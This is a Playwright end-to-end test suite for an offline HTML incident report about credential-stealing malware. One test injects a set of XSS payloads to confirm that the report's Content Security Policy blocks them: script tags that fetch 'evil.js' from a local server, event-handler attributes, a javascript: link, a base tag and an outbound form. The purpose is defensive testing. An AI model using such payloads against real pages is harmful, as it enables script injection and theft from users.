"""The report in a real browser: from a file, by keyboard, for everyone's eyes, and with its policy in force."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from report import sample, whole

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.e2e

Write = Callable[[object], Path]


class Watched:
    """An open page, with everything it asked for and complained about."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))

    def go(self, path: Path) -> Page:
        self.page.goto(path.as_uri())
        return self.page


@pytest.fixture
def open_page(browser: Browser) -> Iterator[Callable[..., Watched]]:
    """Open a watched page; options are those of a browser context."""
    contexts = []

    def make(**options) -> Watched:
        context = browser.new_context(**options)
        contexts.append(context)
        return Watched(context.new_page())

    yield make
    for context in contexts:
        context.close()


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A web server on this machine that notes what it is asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join()


SAMPLES = pytest.mark.parametrize(
    "make", [whole.whole, sample.empty, whole.hostile_whole, sample.tuned, lambda: whole.fleet(3)],
    ids=["incident", "nothing found", "hostile", "lists", "fleet"],
)


@SAMPLES
def test_it_opens_from_a_file_and_asks_for_nothing_else(make, open_page, write_report: Write) -> None:
    watched = open_page()
    path = write_report(make())
    page = watched.go(path)
    page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
    page.wait_for_load_state("networkidle")
    assert watched.requests == [path.as_uri(), "data:,"][: len(watched.requests)]
    assert watched.complaints == []
    assert page.title() != "owned"


@SAMPLES
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing(make, scheme: str, width: int, open_page, write_report: Write) -> None:
    watched = open_page(color_scheme=scheme, viewport={"width": width, "height": 900})
    page = watched.go(write_report(make()))
    page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
    check_with_axe(page)


def test_axe_finds_nothing_in_the_first_view(open_page, write_report: Write) -> None:
    check_with_axe(open_page().go(write_report(whole.whole())))


def check_with_axe(page: Page) -> None:
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()


@SAMPLES
@pytest.mark.parametrize("width", [1280, 390])
def test_the_page_never_scrolls_sideways(make, width: int, open_page, write_report: Write) -> None:
    page = open_page(viewport={"width": width, "height": 900}).go(write_report(make()))
    page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
    assert page.evaluate("() => document.documentElement.scrollWidth") == width


def test_what_was_taken_is_read_on_a_phone_without_scrolling(open_page, write_report: Write) -> None:
    page = open_page(viewport={"width": 390, "height": 900}).go(write_report(whole.whole()))
    boxes = page.locator(".wide:has(table.stores)")
    assert boxes.count() > 0
    assert boxes.evaluate_all("all => all.every(one => one.scrollWidth <= one.clientWidth)")


def test_markup_that_slipped_through_is_dead(open_page, write_report: Write, outside: tuple[str, list[str]]) -> None:
    """The second line of defence: evidence put into the page raw, as if all escaping were gone."""
    server, asked = outside
    path = write_report(sample.lumma())
    raw = (
        f'<script>document.title = "owned"</script><script src="{server}/evil.js"></script>'
        f'<img id="remote" src="{server}/x.png" onerror="document.title = \'owned\'">'
        f'<svg onload="document.title = \'owned\'"></svg><iframe src="{server}/frame"></iframe>'
        f'<button id="bait" onclick="document.title = \'owned\'">bait</button>'
        f'<link rel="stylesheet" href="{server}/evil.css"><style>h1 {{ display: none }}</style>'
        f'<form action="{server}/form"><button id="send">send</button></form>'
        f'<base href="{server}/"><a id="script" href="javascript:document.title=\'owned\'">link</a>'
    )
    text = path.read_text(encoding="utf-8")
    marker = '<main id="main" tabindex="-1">'
    assert marker in text
    path.write_text(text.replace(marker, marker + raw), encoding="utf-8")
    watched = open_page()
    page = watched.go(path)
    title = page.title()
    for bait in ("#bait", "#script"):
        page.locator(bait).dispatch_event("click")
    page.wait_for_timeout(300)
    assert page.title() == title != "owned"
    assert asked == []
    assert page.locator("#remote").evaluate("image => image.naturalWidth") == 0
    assert page.locator("h1").is_visible(), "the injected style was not applied"
    assert page.url == path.as_uri()
    assert page.locator("#alert-list-text").is_visible(), "our own script still runs"
    page.locator("#send").dispatch_event("click")  # last: Chromium leaves the page in limbo when it blocks a form
    page.wait_for_timeout(300)
    assert asked == []
    blocked = [text for text in watched.complaints if "Content Security Policy" in text]
    for rule in ("script-src", "style-src", "img-src", "base-uri", "form-action"):
        assert any(rule in complaint for complaint in blocked), f"nothing says that {rule} blocked"


def test_alerts_are_filtered_by_level_and_text(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(sample.lumma()))
    rows = page.locator("#alert-list > li:visible")
    assert rows.count() == 13
    form = page.get_by_role("form", name="Filter for alerts")
    form.get_by_label("Level at least").select_option("high")
    assert rows.count() == 9
    form.get_by_label("Text in title, host or fields").fill("logins.json 4663")
    assert rows.count() == 1
    assert form.get_by_role("status").inner_text() == "1 of 13 alerts"
    form.get_by_label("Text in title, host or fields").fill("no such words")
    assert rows.count() == 0
    form.get_by_label("Text in title, host or fields").fill("")
    form.get_by_label("Level at least").select_option("informational")
    assert rows.count() == 13
    form.get_by_label("Host", exact=True).select_option("WS-HR-02.corp.example")
    assert rows.count() == 1


def test_steps_and_incidents_are_filtered_too(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(whole.fleet()))
    steps = page.locator("#incident-1-steps > li:visible")
    form = page.get_by_role("form", name="Filter for steps of incident 1", exact=True)
    assert steps.count() == 11
    form.get_by_label("Text in the step or its evidence").fill("firefox")
    assert steps.count() == 1
    assert form.get_by_role("status").inner_text() == "1 of 11 steps"
    incidents = page.locator("#incident-list > details:visible")
    assert incidents.count() == 11
    form = page.get_by_role("form", name="Filter for incidents")
    form.get_by_label("Text in the incident").fill("WS-05")
    assert incidents.count() == 1
    page.locator("table.hosts a[href='#incident-4']").click()
    assert page.locator("#incident-4").get_attribute("open") is not None, "a link shows what a filter hides"


def test_a_value_is_copied_raw_and_the_policy_stays(open_page, write_report: Write) -> None:
    watched = open_page(permissions=["clipboard-read", "clipboard-write"])
    page = watched.go(write_report(whole.whole()))
    page.get_by_role("button", name="Copy hxxps[:]//verify-human").click()
    page.get_by_text("Copied.", exact=True).wait_for()
    assert page.evaluate("() => navigator.clipboard.readText()") == sample.URL
    page.get_by_role("button", name="Copy what to block").click()
    page.get_by_text("5 values. Copied.").wait_for()
    copied = page.evaluate("() => navigator.clipboard.readText()").splitlines()
    assert copied == [row[1] for row in whole._INDICATORS if row[3]]
    assert watched.complaints == []


def test_where_the_clipboard_is_closed_the_value_is_selected(open_page, write_report: Write) -> None:
    watched = open_page()
    watched.page.add_init_script("delete Navigator.prototype.clipboard")
    page = watched.go(write_report(whole.whole()))
    page.get_by_role("button", name="Copy t[.]me").click()
    field = page.get_by_label("The value, selected for copying")
    assert field.input_value() == "t.me"
    assert page.evaluate("() => getSelection().toString()") == "t.me"
    assert page.get_by_text("Press Ctrl+C to copy.").is_visible()
    check_with_axe(page)
    assert watched.complaints == []


def test_a_box_is_ticked_by_keyboard_and_printed_empty(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(whole.whole()))
    box = page.get_by_role("checkbox", name="Move the funds to a new wallet").first
    box.focus()
    page.keyboard.press("Space")
    assert box.is_checked()
    page.emulate_media(media="print")
    look = box.evaluate("box => [getComputedStyle(box).appearance, getComputedStyle(box).backgroundColor]")
    assert look == ["none", "rgb(255, 255, 255)"]
    label = box.evaluate("box => getComputedStyle(box.nextElementSibling).textDecorationLine")
    assert label == "none"


def test_nothing_is_wider_than_the_paper(open_page, write_report: Write) -> None:
    """A4 less the margins is 182 mm; what sticks out of a box that hides it would be cut off."""
    page = open_page(viewport={"width": 688, "height": 1000}).go(write_report(whole.whole()))
    page.emulate_media(media="print")
    page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
    wide = page.evaluate(
        """() => [...document.querySelectorAll('main *:not(svg *)')].filter((one) => {
            const box = one.getBoundingClientRect();
            return box.width > 1 && box.right > document.documentElement.clientWidth + 1;
        }).map((one) => `${one.tagName}.${one.className}: ${one.textContent.slice(0, 60)}`)"""
    )
    assert wide == []


def test_without_script_everything_is_there(open_page, write_report: Write) -> None:
    page = open_page(java_script_enabled=False).go(write_report(whole.whole()))
    assert page.locator("#alert-list > li").count() == 13
    assert page.locator("form:visible, button:visible").count() == 0
    page.locator("#incident-1-step-7 summary").first.click()
    assert page.locator("#incident-1-step-7").get_by_text("*\\Login Data").is_visible()


def test_the_keyboard_reaches_and_opens_the_evidence(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(sample.lumma()))
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("() => document.activeElement.id") == "main"
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("() => document.activeElement.tagName") == "SUMMARY":
            break
    focused = page.locator(":focus")
    assert focused.inner_text() == "Evidence: 1 alert"
    assert focused.evaluate("element => getComputedStyle(element).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert page.locator("#incident-1-step-1 details").first.get_attribute("open") is not None
    assert page.locator("#incident-1-step-1").get_by_text("mshta AND http AND lure word").is_visible()


def test_a_link_to_an_alert_opens_it_even_when_it_is_filtered_away(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(sample.lumma()))
    page.get_by_role("form", name="Filter for alerts").get_by_label("Text in title").fill("no such words")
    page.locator("#incident-1-level ~ .wide a[href='#alert-12']").click()
    assert page.locator("#alert-12").get_attribute("open") is not None
    assert page.locator("#alert-12 table").first.is_visible()


def test_printing_opens_the_evidence_and_closes_it_again(open_page, write_report: Write, tool, tmp_path: Path) -> None:
    import subprocess

    page = open_page().go(write_report(whole.whole()))
    page.pdf(path=tmp_path / "report.pdf", format="A4")
    assert page.locator("details[data-print][open]").count() == 0
    done = subprocess.run([tool("pdftotext"), "-layout", tmp_path / "report.pdf", "-"], capture_output=True, check=True)
    text = re.sub(r"\s+", " ", done.stdout.decode("utf-8"))
    assert "SubjectUserName" not in text  # all fields of every event would be two pages each
    for words in ("Why the rule fired", "Archiver started a program", "Kind of evidence", "What was taken",
                  "Take WS-FIN-07", "Windows Credential Manager", "What would have broken the chain"):  # fmt: skip
        assert words in text
    assert "Text in title, host or fields" not in text


def test_500_alerts_open_within_a_second(open_page, write_report: Write) -> None:
    page = open_page().go(write_report(sample.crowd(500)))
    timing = "() => performance.getEntriesByType('navigation')[0].loadEventEnd"
    milliseconds = min(page.evaluate(timing), *(page.reload() and page.evaluate(timing) for _ in range(3)))
    assert page.locator("#alert-list > li").count() == 513
    assert 0 < milliseconds < 1000


def test_2000_alerts_are_filtered_at_once(open_page, write_report: Write) -> None:
    """Rows of a list that are list items are counted again for each that is hidden: that took 8 seconds."""
    page = open_page().go(write_report(sample.crowd(1987)))
    milliseconds = page.evaluate("""() => {
        const field = document.getElementById("alert-list-text"), before = performance.now();
        field.value = "regasm";
        field.dispatchEvent(new Event("input"));
        document.body.getBoundingClientRect();
        return performance.now() - before;
    }""")
    assert page.locator("#alert-list > li:visible").count() == 6
    assert milliseconds < 1000
